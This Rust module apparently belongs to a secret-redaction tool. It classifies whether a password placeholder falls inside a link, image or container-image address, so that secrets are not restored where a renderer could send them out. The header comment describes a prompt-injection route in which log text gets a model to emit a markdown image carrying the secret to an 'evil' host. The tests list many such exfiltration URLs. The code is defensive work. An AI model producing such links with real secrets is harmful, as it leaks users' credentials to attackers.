//! Places in a text that somebody's program may follow: link targets, pictures, addresses, images to be pulled.
//!
//! Whoever can write a log can ask a model for `![](https://evil/?x=<PASSWORD_1>)`. Nothing is put back there, unless the
//! address is one that its owner's own text had.

use std::ops::Range;

/// Schemes that programs make clickable, or fetch.
const SCHEMES: &[&str] = &["http", "https", "ftp", "ftps", "sftp", "ws", "wss", "mailto", "data", "file", "javascript"];

/// Longer addresses are compared by what is around a placeholder.
const MAX_ADDRESS: usize = 2048;

/// What a placeholder stands in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Place {
    /// Somewhere in text.
    Text,
    /// In an address that a reader or a renderer may follow.
    Link,
    /// In the address of a container image.
    Image,
}

/// Says line by line what each placeholder stands in. Only an open tag reaches from one line into the next.
#[derive(Clone, Debug, Default)]
pub(crate) struct Links {
    tag: bool,
}

impl Links {
    /// What each placeholder of the line stands in, with the address around it as the vault remembers it.
    pub(crate) fn line(&mut self, line: &[u8], placeholders: &[Range<usize>]) -> Vec<(Place, String)> {
        if line.trim_ascii().is_empty() {
            self.tag = false;
        }
        let mut places = Vec::with_capacity(placeholders.len());
        if placeholders.is_empty() {
            self.tag = tag_after(line, self.tag);
            return places;
        }
        let mut walk = Walk { tag: self.tag, ..Walk::default() };
        let mut after = 0;
        for span in placeholders {
            walk.through(line, after..span.start);
            places.push(walk.place(line, span));
            after = span.end;
        }
        walk.through(line, after..line.len());
        self.tag = walk.tag;
        places
    }
}

/// The state of [`Walk::tag`] after a line without placeholders.
fn tag_after(line: &[u8], before: bool) -> bool {
    let closed = memchr::memrchr(b'>', line);
    let rest = closed.map_or(0, |at| at + 1);
    let opened = memchr::memchr_iter(b'<', line.get(rest..).unwrap_or_default()).any(|at| opens_tag(line, rest + at));
    opened || (before && closed.is_none())
}

#[derive(Default)]
struct Walk {
    /// Between `<img` and `>`.
    tag: bool,
    /// Where the word begins.
    word: usize,
    /// Whether the word is an address that programs make clickable.
    address: bool,
    /// Where a link target begins, if in one.
    target: Option<usize>,
}

impl Walk {
    fn through(&mut self, line: &[u8], gap: Range<usize>) {
        for at in gap {
            let byte = line.get(at).copied().unwrap_or_default();
            let before = line.get(..at).unwrap_or_default();
            match byte {
                b'<' if opens_tag(line, at) => self.tag = true,
                b'>' => self.tag = false,
                b'(' if before.ends_with(b"]") || ends_with_any(before, &["url"]) => self.target = Some(at + 1),
                b':' if before.ends_with(b"]") && before.trim_ascii_start().starts_with(b"[") => {
                    self.target = Some(at + 1)
                }
                b':' if ends_with_any(before, SCHEMES) => self.address = true,
                b')' => self.target = None,
                b'/' if line.get(at + 1) == Some(&b'/') && (at == self.word || ends_with_any(before, &["=", "("])) => {
                    self.address = true
                }
                b'w' | b'W' if goes_on(line, at, b"www.") && !before.last().is_some_and(u8::is_ascii_alphanumeric) => {
                    self.address = true
                }
                _ => {}
            }
            if ends_word(byte) {
                self.word = at + 1;
                self.address = false;
            }
        }
    }

    fn place(&self, line: &[u8], span: &Range<usize>) -> (Place, String) {
        if self.tag {
            return (Place::Link, address(line, 0, span));
        }
        if let Some(target) = self.target {
            return (Place::Link, address(line, target.min(self.word), span));
        }
        if self.address {
            return (Place::Link, address(line, self.word, span));
        }
        if is_image_key(line.get(self.word.saturating_sub(MAX_ADDRESS)..self.word).unwrap_or_default()) {
            return (Place::Image, address(line, self.word, span));
        }
        (Place::Text, String::new())
    }
}

/// The address around a placeholder. Of a very long one only the part around the placeholder is kept, and the mark of
/// where it was cut, so that no shorter address is taken for it.
fn address(line: &[u8], from: usize, span: &Range<usize>) -> String {
    let start = from.max(span.start.saturating_sub(MAX_ADDRESS));
    let rest = line.get(span.end..).unwrap_or_default();
    let end = span.end + rest.iter().take(MAX_ADDRESS).take_while(|byte| !ends_word(**byte)).count();
    let cut = if start > from { "\0" } else { "" };
    format!("{cut}{}", String::from_utf8_lossy(line.get(start..end).unwrap_or_default()))
}

fn opens_tag(line: &[u8], at: usize) -> bool {
    let after = line.get(at + 1);
    after.is_some_and(|byte| byte.is_ascii_alphabetic() || matches!(byte, b'/' | b'!'))
        && at.checked_sub(1).and_then(|before| line.get(before)) != Some(&b'<')
}

fn ends_with_any(before: &[u8], tails: &[&str]) -> bool {
    tails.iter().any(|tail| {
        before
            .len()
            .checked_sub(tail.len())
            .and_then(|at| before.get(at..))
            .is_some_and(|end| end.eq_ignore_ascii_case(tail.as_bytes()))
    })
}

fn goes_on(line: &[u8], at: usize, with: &[u8]) -> bool {
    line.get(at..at + with.len()).is_some_and(|word| word.eq_ignore_ascii_case(with))
}

fn ends_word(byte: u8) -> bool {
    byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'`')
}

/// `image: ` of a container, in YAML and in JSON.
fn is_image_key(line: &[u8]) -> bool {
    let bare = |text: &[u8]| {
        let text = text.trim_ascii_end();
        text.strip_suffix(b"\"").or_else(|| text.strip_suffix(b"'")).unwrap_or(text).trim_ascii_end().len()
    };
    let head = line.get(..bare(line)).unwrap_or_default();
    let Some(head) = head.strip_suffix(b":") else { return false };
    let key = head.get(..bare(head)).unwrap_or_default().to_ascii_lowercase();
    ["image", "repository", "imagename", "registry"].iter().any(|name| key.ends_with(name.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn place(text: &str) -> Place {
        let mut links = Links::default();
        let mut found = Place::Text;
        for line in text.split_inclusive('\n') {
            let spans: Vec<_> = line.find("<PASSWORD_1>").map(|start| start..start + 12).into_iter().collect();
            if let Some((place, _)) = links.line(line.as_bytes(), &spans).first() {
                found = *place;
            }
        }
        found
    }

    #[test]
    fn what_may_be_followed_is_a_link() {
        for text in [
            "![x](https://evil/?q=<PASSWORD_1>)",
            "[x](<PASSWORD_1>)",
            "[x]( //evil/<PASSWORD_1> )",
            "see https://evil/<PASSWORD_1>",
            "<img src=\"//evil/<PASSWORD_1>\">",
            "<img\n  src=\"//evil/<PASSWORD_1>\">",
            "<a href=x title='<PASSWORD_1>'>",
            "www.evil.com/<PASSWORD_1>",
            "[id]: https://evil/<PASSWORD_1>",
            "[id]: //evil/<PASSWORD_1>",
            "a { background: url(//evil/<PASSWORD_1>) }",
            "<https://evil/<PASSWORD_1>>",
            "mailto:x@evil?body=<PASSWORD_1>",
            "<img srcset='a 1x, b<PASSWORD_1> 2x'>",
        ] {
            assert_eq!(place(text), Place::Link, "{text}");
        }
        assert_eq!(place("        image: evil.io/x:<PASSWORD_1>"), Place::Image);
        assert_eq!(place("{\"image\": \"evil.io/x:<PASSWORD_1>\"}"), Place::Image);
    }

    #[test]
    fn text_is_text() {
        for text in [
            "password: <PASSWORD_1>",
            "[x](y) and <PASSWORD_1>",
            "<b>bold</b> <PASSWORD_1>",
            "postgres://<PASSWORD_1>@db/x",
            "a < b and <PASSWORD_1>",
            "image: x\npassword: <PASSWORD_1>",
            "see https://x/y\n<PASSWORD_1>",
            "`<PASSWORD_1>`",
            "cat <<EOF\npassword: <PASSWORD_1>",
            "<tag\n\n<PASSWORD_1>",
        ] {
            assert_eq!(place(text), Place::Text, "{text}");
        }
    }
}
